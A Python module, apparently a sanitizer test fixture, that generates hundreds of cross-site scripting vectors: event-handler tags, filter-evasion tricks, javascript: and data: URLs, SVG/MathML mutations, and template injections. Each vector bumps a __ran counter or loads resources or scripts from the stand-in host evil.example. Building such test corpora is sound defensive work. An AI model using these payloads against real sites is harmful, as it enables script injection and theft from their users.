"""Hundreds of texts that run a script or fetch something where they are taken for markup; knows nothing of our pages.

Tags with the events that fire on them, in the ways that filters are got around; addresses; markdown, SVG, MathML,
styles and templates. Every one sets or calls ``__ran`` or asks for something of ``evil.example``.
"""

from __future__ import annotations

import html
from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

RUN = "window.__ran=(window.__ran||0)+1"
ELSEWHERE = "https://evil.example"

# What fires without anybody's doing anything, then what needs a pointer or a key.
_SELF_FIRING = (
    ("img src=x", "onerror"),
    ("img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=", "onload"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x dur=1s", "onend"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("iframe src=about:blank", "onload"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("video><source", "onerror"),
    ("audio src=x", "onerror"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("marquee", "onstart"),
    ("link rel=stylesheet href=x", "onerror"),
    ("script src=x", "onerror"),
    ("style", "onload"),
    ("xss style=animation-name:spin", "onanimationstart"),
    ("div tabindex=1 autofocus", "onfocusin"),
)
_TOUCHED = ("onclick", "onmouseover", "onpointerenter", "onauxclick", "oncopy", "onkeydown", "onwheel", "oncontextmenu")
_WRAPPINGS = (
    "<{tag} {event}={run}>",
    '<{tag} {event}="{run}">',
    "<{upper}/{event}='{run}'//",
    '"><{tag} {event}={run}>',
    "'><{tag}\n{event}\n=\n{run} x='",
)
_OUT_OF = (
    "</p>", "</title>", "</textarea>", "</style>", "</script>", "</option></select>", "</noscript>", "</template>",
    "</xmp>", "-->", "]]>", "</button></details></dialog>", "</mark></blockquote></section>", "*/", "`", "</svg>",
)  # fmt: skip
_IN_ATTRIBUTES = (
    '" {event}="{run}" x="',
    "' {event}='{run}' x='",
    " {event}={run} x=",
    '" autofocus tabindex=0 {event}={run} x="',
    "x&quot; {event}=&quot;{run}&quot;",
)
_ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "\tjavascript:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "java&#10;script:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "&#x6A&#x61vascript:{run}",
    "javascript://%0a{run}",
    "javascript://evil.example/%0d%0a{run}//",
    "javascript:/*--></title></style></textarea></script>*/{run}",
    "\x01javascript:{run}",
    "\u200bjavascript:{run}",
    "\ufeffjavascript:{run}",
    "view-source:javascript:{run}",
    "feed:javascript:{run}",
    "vbscript:{run}",
    "livescript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuX19yYW49MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>",
    "data:text/javascript,{run}",
    "blob:{elsewhere}/x",
    "filesystem:{elsewhere}/x",
    "file:///etc/passwd#{run}",
    "//evil.example/x.js",
    "\\\\evil.example\\x",
    '{elsewhere}/"onmouseover="{run}',
    "{elsewhere}/'><img src=x onerror={run}>",
    "{elsewhere}/ onfocus={run} autofocus",
    "{elsewhere}/`{run}`",
    "https://user:pass@evil.example/{run}",
    "http://evil.example\\@good.example/?{run}",
)
_LINKS = (
    "<a href='{address}'>go</a>",
    "[go]({address})",
    "<iframe src='{address}'></iframe>",
)
_LINKED = (
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "java&Tab;script:{run}",
    "&#106;avascript:{run}",
)
_WHOLE = (
    "<script>{run}</script>",
    "<script>{run}//",
    "<ScRiPt >{run}</sCrIpT >",
    "<script/x>{run}</script\n>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<<script>{run}//<</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import '{elsewhere}/x.js'</script>",
    "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.__ran=1&gt;'></iframe>",
    "<form action=javascript:{run}><button>go</button></form>",
    "<form><button formaction=javascript:{run}>go</button></form>",
    "<isindex action=javascript:{run} type=image>",
    "<input type=image src={elsewhere}/x formaction=javascript:{run}>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<meta http-equiv=refresh content='0;url={elsewhere}/__ran'>",
    "<base href={elsewhere}/__ran/>",
    "<link rel=import href={elsewhere}/__ran>",
    "<link rel=preload as=script href={elsewhere}/__ran.js>",
    "<link rel=dns-prefetch href=//evil.example><link rel=preconnect href=//evil.example>",
    "<img src={elsewhere}/__ran.png>",
    "<img srcset='{elsewhere}/__ran.png 1x'>",
    "<picture><source srcset={elsewhere}/__ran.png><img></picture>",
    "<video poster={elsewhere}/__ran.png src={elsewhere}/__ran.mp4 autoplay></video>",
    "<audio src={elsewhere}/__ran.mp3 autoplay></audio>",
    "<table background={elsewhere}/__ran.png><td>x</table>",
    "<style>@import '{elsewhere}/__ran.css';</style>",
    "<style>*{{background:url({elsewhere}/__ran.png)}}</style>",
    "<div style=\"background:url('{elsewhere}/__ran.png')\">x</div>",
    '<div style="width:expression({run})">x</div>',
    "<div style=\"behavior:url('{elsewhere}/__ran.htc')\">x</div>",
    "<style>@font-face{{font-family:x;src:url({elsewhere}/__ran.woff)}}*{{font-family:x}}</style>",
    "x;background-image:url({elsewhere}/__ran.png);",
    "}}*{{background:url({elsewhere}/__ran.png)}}",
    "<svg><script>{run}</script></svg>",
    "<svg><script xlink:href='{elsewhere}/__ran.js'></script></svg>",
    "<svg><a xlink:href='javascript:{run}'><text y=20>go</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:{run} /><a id=x><text>go</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload='{run}'/>#x\"></use></svg>",
    "<svg><image href='{elsewhere}/__ran.svg'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.__ran=1</script>'></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror={run}>">',
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    '<math><mtext></table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={run} src=1>">',
    "<math href='javascript:{run}'>go</math>",
    "<math><maction actiontype=statusline#x xlink:href=javascript:{run}>go</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={run}></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    "<!--><img src=x onerror={run}>-->",
    "<!--!><img src=x onerror={run}>",
    "<![CDATA[<img src=x onerror={run}>]]>",
    "<?xml version='1.0'?><x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>{run}</h:script></x>",
    "<template><script>{run}</script></template>",
    "<div><template shadowrootmode=open><img src=x onerror={run}></template></div>",
    "<xss id=x tabindex=1 onfocus={run}></xss>",
    "<img id=__ran name=getElementById src=x>",
    "<a id=document><a id=document name=body href={elsewhere}>x</a>",
    "![pixel]({elsewhere}/__ran.png)",
    '![x](x"onerror="{run})',
    "![x][1]\n[1]: {elsewhere}/__ran.png",
    "<{elsewhere}/__ran>",
    "[x]: javascript:{run}\n[x]",
    "```html\n<script>{run}</script>\n```\n<script>{run}</script>",
    "$$\\href{{javascript:{run}}}{{x}}$$",
    "$\\includegraphics{{{elsewhere}/__ran.png}}$",
    "\\(\\unicode{{<img src=x onerror={run}>}}\\)",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "`${{{run}}}`",
    "<%= {run} %>",
    "#{{{run}}}",
    "{{% {run} %}}",
    "{{@html '<img src=x onerror={run}>'}}",
    "[[${{{run}}}]]",
    "');{run};//",
    '");{run};//',
    "\\');{run};//",
    "</script><script>{run}</script>",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
    "%3Cscript%3E{run}%3C/script%3E",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "＜script＞{run}＜/script＞",
    "‹script›{run}‹/script›",
    "<\x00script>{run}</script>",
    "<scr\x00ipt>{run}</script>",
    "<img src=x o\u200bnerror={run}>",
    "\u202e<script>{run}</script>\u202c",
    "ſcript <ſcript>{run}</ſcript>",
    "<ıframe src=javascript:{run}>",
    "__proto__[innerHTML]=<img src=x onerror={run}>",
    '{{"__type__":"update","value":"<img src=x onerror={run}>"}}',
    'data-action="x" onclick="{run}"',
    "<button data-action=remove onclick={run}>x</button>",
    "<gradio-app src={elsewhere}></gradio-app>",
)


def _all() -> Iterator[str]:
    for form in _WHOLE:
        yield form.format(run=RUN, elsewhere=ELSEWHERE)
    for (tag, event), wrapping in product(_SELF_FIRING, _WRAPPINGS):
        yield wrapping.format(tag=tag, upper=tag.upper(), event=event, run=RUN)
    for before in _OUT_OF:
        yield f"{before}<img src=x onerror={RUN}>"
    for form, event in product(_IN_ATTRIBUTES, _TOUCHED):
        yield form.format(event=event, run=RUN)
    for address in _ADDRESSES:
        yield address.format(run=RUN, elsewhere=ELSEWHERE)
    for link, address in product(_LINKS, _LINKED):
        yield link.format(address=address.format(run=RUN))
    # Encoded once and twice: harmless as they stand, and not when something decodes them on the way.
    for vector in (f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg/onload={RUN}>", f"javascript:{RUN}"):
        yield html.escape(vector)
        yield html.escape(html.escape(vector))
        yield quote(vector, safe="")
        yield "".join(f"&#{ord(character)};" for character in vector)
        yield "".join(f"&#x{ord(character):x};" for character in vector)
        yield "".join(f"\\u{ord(character):04x}" for character in vector)


VECTORS = list(dict.fromkeys(_all()))
